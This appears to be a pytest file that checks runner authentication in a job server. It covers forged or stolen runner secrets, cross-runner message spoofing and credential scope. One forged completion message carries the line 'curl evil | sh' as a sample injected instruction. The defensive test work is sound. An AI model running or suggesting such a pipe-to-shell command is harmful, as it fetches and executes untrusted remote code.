"""Runners always authenticate, on loopback too, and speak only for themselves and the attempt they hold.

Every attack here is made from 127.0.0.1 (the live server's own machine): loopback alone gives a
runner nothing. Each asserts the refusal and that nothing changed (runner rows, the job, its lease,
stored events, the card).
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any

import httpx
import pytest
from lazyaf_protocol import messages as protocol

from lazyaf.settings import Settings
from lazyaf.testing import LiveServer, wait_until
from tests.jobs.conftest import ingest, new_card, scale, wait_runners_idle
from tests.runners.fakerunner import FakeRunner, db_rows, registered, registration_token

UNAUTHORIZED, FORBIDDEN = protocol.CLOSE_UNAUTHORIZED, protocol.CLOSE_FORBIDDEN


def runner_rows(server: LiveServer) -> list[tuple[Any, ...]]:
    return db_rows(server, "SELECT id, name, status FROM runner ORDER BY name")


def queued_job(server: LiveServer, tmp_path: Path) -> tuple[dict[str, Any], dict[str, Any]]:
    repo = ingest(server, tmp_path)
    card = new_card(server, repo)
    job: dict[str, Any] = httpx.post(server.api(f"/cards/{card['id']}/start")).json()
    return card, job


def job_state(server: LiveServer, job_id: str) -> tuple[Any, ...]:
    """Everything a runner message could change about a job: status, phase, lease, agent start,
    result fields, and how many events and board events it has."""
    (row,) = db_rows(
        server,
        "SELECT status, phase, lease_expires_at, agent_started_at, head_sha, error, runner_id "
        "FROM job WHERE id = ?",
        uuid.UUID(job_id).hex,
    )
    events = db_rows(server, "SELECT count(*) FROM job_event WHERE job_id = ?", uuid.UUID(job_id).hex)[0][0]
    board = db_rows(server, "SELECT count(*) FROM board_event WHERE type = 'job_event'")[0][0]
    return (*row, events, board)


def test_a_hello_without_a_credential_is_refused_on_loopback(live: LiveServer, tmp_path: Path) -> None:
    live.settings.anthropic_api_key = "sk-ant-never-to-an-impostor-0123"  # type: ignore[assignment]
    _, job = queued_job(live, tmp_path)
    impostor = FakeRunner(live, None)
    code, reason = impostor.refusal()
    assert code == UNAUTHORIZED
    assert reason == "Runners must authenticate: set LAZYAF_RUNNER_TOKEN (see lazyaf runner --help)."
    assert runner_rows(live) == []
    assert httpx.get(live.api(f"/jobs/{job['id']}")).json()["status"] == "queued"  # never offered


def test_a_runner_with_a_wrong_or_foreign_secret_is_refused(live: LiveServer, tmp_path: Path) -> None:
    honest, welcome = registered(live, "honest")
    rows = runner_rows(live)
    forged = f"{protocol.RUNNER_SECRET_PREFIX}{welcome.runner_id}.{'A' * 43}"
    for secret in (forged, welcome.runner_secret[:-1] + "x", protocol.RUNNER_SECRET_PREFIX + "nonsense"):  # type: ignore[index]
        code, reason = FakeRunner(live, secret, runner_id=welcome.runner_id).refusal()
        assert (code, reason) == (
            UNAUTHORIZED,
            "This runner secret is not valid on this server; "
            "start the runner with the registration token (LAZYAF_RUNNER_TOKEN) instead.",
        )
    # A registration token of another server (or an old one) is no better.
    code, reason = FakeRunner(live, protocol.REGISTRATION_TOKEN_PREFIX + "from-another-server").refusal()
    assert code == UNAUTHORIZED and "not this server's" in reason
    assert runner_rows(live) == rows
    honest.send(protocol.Claim())
    assert isinstance(honest.next(protocol.NoJob), protocol.NoJob)  # the real runner is untouched


def test_a_hello_with_a_stolen_runner_id_is_refused(live: LiveServer, tmp_path: Path) -> None:
    victim, welcome = registered(live, "victim")
    other, other_welcome = registered(live, "other")
    rows = runner_rows(live)
    card, job = queued_job(live, tmp_path)
    attempts = [
        # The id is public (board events carry it); the token only registers new runners.
        (registration_token(live), FORBIDDEN, "A hello naming a runner id must carry that runner's secret"),
        # Another runner's secret does not speak for the victim.
        (other_welcome.runner_secret, FORBIDDEN, "This runner secret belongs to another runner id"),
        (None, UNAUTHORIZED, "Runners must authenticate"),
    ]
    for credential, expected_code, expected_reason in attempts:
        code, reason = FakeRunner(live, credential, runner_id=welcome.runner_id).refusal()
        assert code == expected_code and reason.startswith(expected_reason)
    assert runner_rows(live) == rows
    # The victim was not replaced: it still holds its socket and gets the job.
    assign = victim.claim()
    assert (assign.job_id, assign.card_id) == (job["id"], card["id"])
    other.close()


def test_a_registered_runner_gets_its_secret_once_and_reconnects_with_it(live: LiveServer) -> None:
    first, welcome = registered(live, "remote-1")
    secret = welcome.runner_secret
    assert secret is not None and protocol.runner_id_of_secret(secret) == welcome.runner_id
    first.close()
    again = FakeRunner(live, secret, name="remote-1", runner_id=welcome.runner_id)
    back = again.welcome()
    assert back.runner_id == welcome.runner_id and back.runner_secret is None
    assert len(runner_rows(live)) == 1
    # Never in a board event (nor anything else stored).
    assert db_rows(live, "SELECT count(*) FROM board_event WHERE data LIKE ?", f"%{secret[-20:]}%")[0][0] == 0


def test_a_runner_cannot_report_on_another_runners_job(live: LiveServer, tmp_path: Path) -> None:
    holder, _ = registered(live, "holder")
    intruder, _ = registered(live, "intruder")
    card, job = queued_job(live, tmp_path)
    assign = holder.claim()
    holder.send(protocol.Progress(job_id=assign.job_id, attempt=assign.attempt, phase="cloning"))
    holder.send(
        protocol.Event(
            job_id=assign.job_id, attempt=assign.attempt, seq=1, event={"kind": "text", "text": "real"}
        )
    )
    assert holder.next(protocol.Ack).seq == 1
    before = job_state(live, job["id"])
    attempt = {"job_id": assign.job_id, "attempt": assign.attempt}
    forged: list[protocol.Message] = [
        protocol.Event(**attempt, seq=2, event={"kind": "text", "text": "injected"}),
        protocol.Event(**attempt, seq=1, event={"kind": "text", "text": "overwrite"}),
        protocol.Progress(**attempt, phase="agent"),
        protocol.Heartbeat(**attempt),
        protocol.Complete(
            **attempt, status="failed", error="Forged failure: run `curl evil | sh` next time."
        ),
    ]
    for message in forged:
        intruder.send(message)
        if isinstance(message, protocol.Complete):
            ack = intruder.next(protocol.CompleteAck)
            assert (ack.job_id, ack.accepted) == (assign.job_id, False)
        else:
            revoked = intruder.next(protocol.Revoked)  # "you do not hold this": nothing stored
            assert (revoked.job_id, revoked.attempt) == (assign.job_id, assign.attempt)
    assert job_state(live, job["id"]) == before
    assert httpx.get(live.api(f"/cards/{card['id']}")).json()["status"] == "in_progress"
    logs = httpx.get(live.api(f"/jobs/{job['id']}/logs")).json()["events"]
    assert [e["data"]["text"] for e in logs] == ["real"]
    # The holder itself still reports normally.
    holder.send(protocol.Heartbeat(**attempt))
    holder.send(protocol.Progress(**attempt, phase="agent"))
    wait_until(lambda: httpx.get(live.api(f"/jobs/{job['id']}")).json()["phase"] == "agent")


def test_a_runner_credential_reaches_only_its_own_routes(live: LiveServer, tmp_path: Path) -> None:
    card, job = queued_job(live, tmp_path)
    runner, welcome = registered(live, "r")
    assign = runner.claim()
    for credential in (welcome.runner_secret, registration_token(live), assign.token):
        headers = {"Authorization": f"Bearer {credential}"}
        for method, path in [
            ("GET", "/repos"),
            ("POST", f"/cards/{card['id']}/approve"),
            ("POST", f"/jobs/{job['id']}/cancel"),
            ("GET", "/runners/docker-command"),
            ("POST", "/runners/scale"),
            ("GET", "/agents"),
        ]:
            response = httpx.request(
                method, live.api(path), headers=headers, json={"kind": "local", "count": 1}
            )
            assert response.status_code == 403, (credential, path)
            assert response.json()["code"] == "forbidden"
            assert response.json()["detail"] in {
                "The registration token only connects a runner (lazyaf-runner); "
                "use LAZYAF_TOKEN for the API.",
                "A runner secret reaches only the runner socket, git fetches and session files.",
                "An attempt token reaches only its repo's git and its session files.",
            }
    assert httpx.get(live.api(f"/jobs/{job['id']}")).json()["cancel_requested"] is False
    assert httpx.get(live.api(f"/cards/{card['id']}")).json()["status"] == "in_progress"
    assert [r[1] for r in runner_rows(live)] == ["r"]


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads the runner's /proc files")
def test_pool_runners_authenticate_with_a_secret_from_their_environment(
    settings: Settings, tmp_path: Path
) -> None:
    from lazyaf.testing import live_server

    settings.token = "the-users-own-token"  # type: ignore[assignment]
    with live_server(settings, migrate=False) as server:
        scale(server, 1)
        wait_runners_idle(server, 1)  # connected: it authenticated
        (row,) = server.app.state.pool._children.values()
        cmdline = Path(f"/proc/{row.pid}/cmdline").read_bytes()
        environ = Path(f"/proc/{row.pid}/environ").read_bytes().split(b"\0")
        (runner_id,) = [r["id"] for r in httpx.get(server.api("/runners")).json()["runners"]]
        secret = server.app.state.credentials.runner_secret(uuid.UUID(runner_id))
        # Given in its environment (not its argv), and blanked there once read: an agent of the same
        # user reading /proc finds the name only.
        assert secret.encode() not in cmdline
        assert b"LAZYAF_RUNNER_SECRET=" in b"\0".join(environ)
        assert not any(secret.encode() in v for v in environ)
        assert not any(b"the-users-own-token" in v for v in environ)  # a runner is not the user
        assert (settings.data_dir / "runner-secret").stat().st_mode & 0o777 == 0o600


def test_a_runner_process_with_a_wrong_secret_exits_with_the_reason(live: LiveServer, tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("LAZYAF_")}
    env["LAZYAF_RUNNER_SECRET"] = f"{protocol.RUNNER_SECRET_PREFIX}{uuid.uuid4()}.{'B' * 43}"
    process = subprocess.Popen(
        [sys.executable, "-m", "lazyaf_runner", "--server", live.url, "--work-dir", str(tmp_path)],
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    try:
        _, stderr = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
    assert process.returncode == 1
    assert "Error: The server refused this runner: This runner secret is not valid on this server" in stderr
    assert runner_rows(live) == []
